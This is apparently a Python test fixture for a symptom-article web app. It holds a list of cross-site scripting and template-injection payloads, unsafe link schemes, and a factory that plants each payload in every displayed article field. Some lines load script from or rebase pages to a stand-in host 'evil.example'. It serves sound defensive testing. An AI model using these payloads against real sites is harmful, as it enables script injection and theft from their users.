"""Classic cross-site scripting payloads, and a hostile article that carries them in
every field a reader, an editor or an imported file can fill. Shared by the server-side
XSS tests (tests/security/test_xss.py) and the browser tests (tests/browser/)."""

from __future__ import annotations

import datetime as dt

from symptomdb.articles.models import (
    Article,
    Cause,
    PreventionTip,
    ProfessionalTreatment,
    RedFlag,
    ReliefMethod,
    Source,
    Status,
    Urgency,
)
from symptomdb.people.models import Author
from symptomdb.terminology.models import Symptom, Synonym

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<script src=//evil.example/x.js></script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "＜script＞alert(1)＜/script＞",  # fullwidth brackets
    "\u202e<script>alert(1)</script>",  # right-to-left override
    "<scr\u200bipt>alert(1)</scr\u200bipt>",  # zero-width space
    "&lt;script&gt;alert(1)&lt;/script&gt;",  # already escaped: must stay text
    "\u2028\u2029</script><script>alert(1)</script>",  # JSON line separators
]

# Source URLs that must never become a clickable link.
UNSAFE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

# A word in every hostile name, so the search finds them.
MARKER = "Zyxwvut"


def hostile_article(payload: str, *, n: int = 0) -> Article:
    """A published article with the payload in every field the pages show."""
    tagged = f"{MARKER} {payload}"
    author = Author.objects.create(
        slug=f"hostile-author-{n}",
        name=tagged,
        credentials=payload,
        affiliation=payload,
        location=payload,
        bio=f"{payload}\n{payload}",
    )
    symptom = Symptom.objects.create(
        slug=f"hostile-symptom-{n}", name=tagged, definition=payload, prior=1.0
    )
    Synonym.objects.create(
        symptom=symptom, text=f"{MARKER} also {payload}", kind="exact", source="HPO"
    )
    article = Article.objects.create(
        symptom=symptom,
        title=tagged,
        summary=payload,
        conclusion=payload,
        disclaimer=payload,
        author=author,
        reviewer=author,
        status=Status.PUBLISHED,
        published_on=dt.date(2025, 1, 1),
        last_reviewed_on=dt.date(2025, 1, 1),
    )
    for model in (Cause, ReliefMethod, PreventionTip, ProfessionalTreatment):
        model.objects.create(article=article, name=payload, text=payload)
    for urgency in Urgency:
        RedFlag.objects.create(article=article, text=payload, urgency=urgency)
    Source.objects.create(article=article, title=payload, url="https://example.org/safe")
    for i, url in enumerate(UNSAFE_URLS, start=1):
        # Written straight to the table, as a bulk import would, past any form validation.
        Source.objects.create(article=article, position=i, title=payload, url=url)
    return article
